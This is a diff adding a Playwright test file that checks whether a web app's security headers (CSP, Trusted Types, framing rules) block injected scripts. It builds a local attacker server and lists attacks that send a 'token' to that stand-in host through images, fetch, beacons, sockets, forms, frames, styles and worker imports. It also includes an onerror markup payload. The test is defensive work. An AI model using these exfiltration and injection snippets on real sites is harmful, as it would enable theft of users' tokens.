@@ -1,0 +1,234 @@
+import { execFileSync } from 'node:child_process'
+import { existsSync, readdirSync } from 'node:fs'
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from '@playwright/test'
+import { answerFile, readStaticFiles, withFile } from '#sandbox-server/static-files.ts'
+import { securityHeaders } from '../../tools/headers/security-headers.mjs'
+import { expect, journey } from './campus.ts'
+
+declare global {
+  interface Window {
+    violated?: string | undefined
+    /** Set by an attack that succeeded without a request. */
+    hasRun?: boolean
+    readonly trustedTypes?: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } }
+  }
+}
+
+/** The origins of a deployment, of its API and of its calendar. No server answers for the latter two. */
+const api = 'http://api.localhost:4901'
+const calendar = 'http://calendar.localhost:4902'
+const config = { apiURL: `${api}/`, calendarURL: `${calendar}/v1.0` }
+
+const servers: Server[] = []
+
+async function listen(answer: Parameters<typeof createServer>[1], host: string): Promise<string> {
+  const server = createServer(answer)
+  servers.push(server)
+  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
+  return `http://${host}:${(server.address() as AddressInfo).port}`
+}
+
+/** The production build, with the headers generated from its config.json or with none. Returns its origin. */
+async function deploy(isGuarded: boolean): Promise<string> {
+  // `npm test` has built it before.
+  if (!existsSync('dist/index.html')) execFileSync('npx', ['vite', 'build', '--logLevel', 'error'])
+  const files = withFile(
+    readStaticFiles('dist'),
+    '/config.json',
+    Buffer.from(JSON.stringify(config)),
+    'application/json',
+  )
+  return listen((request, response) => {
+    const { pathname, origin } = new URL(request.url ?? '/', `http://${request.headers.host ?? ''}`)
+    if (isGuarded) for (const [name, value] of securityHeaders(config, { origin })) response.setHeader(name, value)
+    answerFile(files, request, response, pathname)
+  }, 'localhost')
+}
+
+/** The attacker's site. It remembers which paths were requested, and shows a page at `/page`. */
+async function openEvil() {
+  const reached = new Set<string>()
+  const take = (url = '') => reached.add(url.split(/[/?]/)[1] ?? '')
+  const origin = await listen((request, response) => {
+    take(request.url)
+    response.setHeader('Access-Control-Allow-Origin', '*')
+    if (request.url === '/page')
+      response.setHeader('Content-Type', 'text/html').end('<!doctype html><title>Evil</title>')
+    // Without content, a form or a frame leaves the page as it is.
+    else response.writeHead(204).end()
+  }, '127.0.0.1')
+  servers.at(-1)?.on('upgrade', ({ url }, socket) => {
+    take(url)
+    socket.destroy()
+  })
+  return { origin, reached }
+}
+
+journey.afterEach(() => servers.splice(0).forEach((server) => server.close().closeAllConnections()))
+
+type Attack = (evil: string) => unknown
+
+/**
+ * The ways in which a script that got into the page could carry a token out or bring in more, with the directive against each. An attack
+ * that succeeds requests the path of its name, or sets `hasRun`.
+ */
+const attacks: Readonly<Record<string, readonly [directive: string, attack: Attack]>> = {
+  image: ['img-src', (evil) => (new Image().src = `${evil}/image?token`)],
+  fetch: ['connect-src', (evil) => fetch(`${evil}/fetch`, { method: 'POST', body: 'token' })],
+  beacon: ['connect-src', (evil) => navigator.sendBeacon(`${evil}/beacon`, 'token')],
+  socket: ['connect-src', (evil) => void new WebSocket(`${evil.replace('http', 'ws')}/socket?token`)],
+  events: ['connect-src', (evil) => void new EventSource(`${evil}/events?token`)],
+  font: ['font-src', (evil) => new FontFace('evil', `url(${evil}/font?token)`).load()],
+  form: [
+    'form-action',
+    (evil) => {
+      const form = Object.assign(document.createElement('form'), { action: `${evil}/form`, method: 'post' })
+      document.body.append(form)
+      form.submit()
+    },
+  ],
+  frame: [
+    'frame-src',
+    (evil) => document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/frame?token` })),
+  ],
+  timer: ['require-trusted-types-for', () => Reflect.apply(setTimeout, window, ['hasRun = true'])],
+  inline: [
+    'require-trusted-types-for',
+    () => document.head.append(Object.assign(document.createElement('script'), { text: 'hasRun = true' })),
+  ],
+  script: [
+    'require-trusted-types-for',
+    (evil) => document.head.append(Object.assign(document.createElement('script'), { src: `${evil}/script` })),
+  ],
+  markup: [
+    'require-trusted-types-for',
+    () => (document.createElement('p').innerHTML = '<img src=x: onerror="hasRun = true">'),
+  ],
+  worker: [
+    'require-trusted-types-for',
+    () => {
+      window.hasRun = new Worker('/assets/none.js') instanceof Worker
+    },
+  ],
+  'default policy': [
+    'trusted-types',
+    () => (window.hasRun = Boolean(window.trustedTypes?.createPolicy('default', {}))),
+  ],
+  'further policy': ['trusted-types', () => (window.hasRun = Boolean(window.trustedTypes?.createPolicy('evil', {})))],
+  attribute: ['style-src-attr', (evil) => document.body.setAttribute('style', `background: url(${evil}/attribute)`)],
+  style: [
+    'style-src-elem',
+    (evil) =>
+      document.head.append(
+        Object.assign(document.createElement('style'), { textContent: `html { background: url(${evil}/style) }` }),
+      ),
+  ],
+  sheet: [
+    'style-src-elem',
+    (evil) =>
+      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${evil}/sheet` })),
+  ],
+  base: [
+    'base-uri',
+    (evil) => {
+      document.head.append(Object.assign(document.createElement('base'), { href: evil }))
+      window.hasRun = document.baseURI.startsWith(evil)
+    },
+  ],
+}
+
+journey.use({ refused: /./ })
+
+async function open(page: Page, origin: string): Promise<void> {
+  await page.goto(`${origin}/account/login`)
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  await page.evaluate(() => {
+    document.addEventListener('securitypolicyviolation', (event) => (window.violated = event.effectiveDirective))
+  })
+}
+
+/** Does it, and returns once it was refused or has succeeded. */
+async function attempt(page: Page, name: string, attack: Attack, evil: Awaited<ReturnType<typeof openEvil>>) {
+  await page.evaluate(() => Object.assign(window, { violated: undefined, hasRun: false }))
+  await page.evaluate(attack, evil.origin).catch(() => undefined)
+  const outcome = async () => {
+    const { violated, hasRun } = await page.evaluate(() => ({ violated: window.violated, hasRun: window.hasRun }))
+    return violated ?? (hasRun || evil.reached.has(name) ? 'succeeded' : null)
+  }
+  await expect.poll(outcome, { message: name, intervals: [20, 50, 100] }).not.toBeNull()
+  return outcome()
+}
+
+journey('T9: a script that got into the page sends nothing elsewhere and brings in nothing more', async ({ page }) => {
+  const evil = await openEvil()
+  await open(page, await deploy(true))
+  for (const [name, [directive, attack]] of Object.entries(attacks))
+    expect(await attempt(page, name, attack, evil), name).toBe(directive)
+  expect([...evil.reached]).toEqual([])
+
+  // Without the headers, each of them succeeds.
+  await open(page, await deploy(false))
+  for (const [name, [, attack]] of Object.entries(attacks))
+    expect(await attempt(page, name, attack, evil), name).toBe('succeeded')
+})
+
+journey('T9: nor does a script in the worker', async ({ page }) => {
+  const evil = await openEvil()
+  const script = `/assets/${readdirSync('dist/assets').find((name) => name.startsWith('compute-')) ?? ''}`
+  const attackIn = async (isGuarded: boolean) => {
+    await open(page, await deploy(isGuarded))
+    const started = page.waitForEvent('worker')
+    await page.evaluate((url) => {
+      const rules = { createScriptURL: (text: string) => text }
+      // The product names this policy when it starts its worker, which the sign-in page does not.
+      const policy = window.trustedTypes?.createPolicy('foyer-worker', rules) ?? rules
+      Object.assign(window, { worker: new Worker(policy.createScriptURL(url), { type: 'module' }) })
+    }, script)
+    return (await started).evaluate(
+      async ({ origin, isRefused }) => {
+        const violated: string[] = []
+        globalThis.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+          violated.push(effectiveDirective),
+        )
+        await import(`${origin}/import`).catch(() => undefined)
+        await fetch(`${origin}/fetched`, { method: 'POST', body: 'token' }).catch(() => undefined)
+        // They are reported a moment after the refusal.
+        for (let tries = 0; isRefused && violated.length < 2 && tries < 500; tries += 1)
+          await new Promise((resolve) => setTimeout(resolve, 10))
+        return violated
+      },
+      { origin: evil.origin, isRefused: isGuarded },
+    )
+  }
+  expect(await attackIn(true)).toEqual(['script-src-elem', 'connect-src'])
+  expect([...evil.reached]).toEqual([])
+  expect(await attackIn(false)).toEqual([])
+  expect([...evil.reached]).toEqual(['import', 'fetched'])
+})
+
+journey('T14: another site cannot frame the page, nor keep hold of one that it opens', async ({ page }) => {
+  const { origin: evil } = await openEvil()
+  const holds = async (isGuarded: boolean) => {
+    const origin = await deploy(isGuarded)
+    await page.goto(`${evil}/page`)
+    const opened = page.context().waitForEvent('page')
+    await page.evaluate(async (url) => {
+      const frame = document.createElement('iframe')
+      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
+      frame.src = url
+      document.body.append(frame)
+      await loaded
+      Object.assign(window, { held: window.open(`${url}/account/login`) })
+    }, origin)
+    const other = await opened
+    await expect(other.getByRole('heading', { level: 1 })).toBeVisible()
+    const framed = page.frames().some((frame) => frame !== page.mainFrame() && frame.url().startsWith(origin))
+    const isHeld = await page.evaluate(() => !(window as unknown as { held: Window }).held.closed)
+    await other.close()
+    return { framed, isHeld }
+  }
+  expect(await holds(true)).toEqual({ framed: false, isHeld: false })
+  expect(await holds(false)).toEqual({ framed: true, isHeld: true })
+})
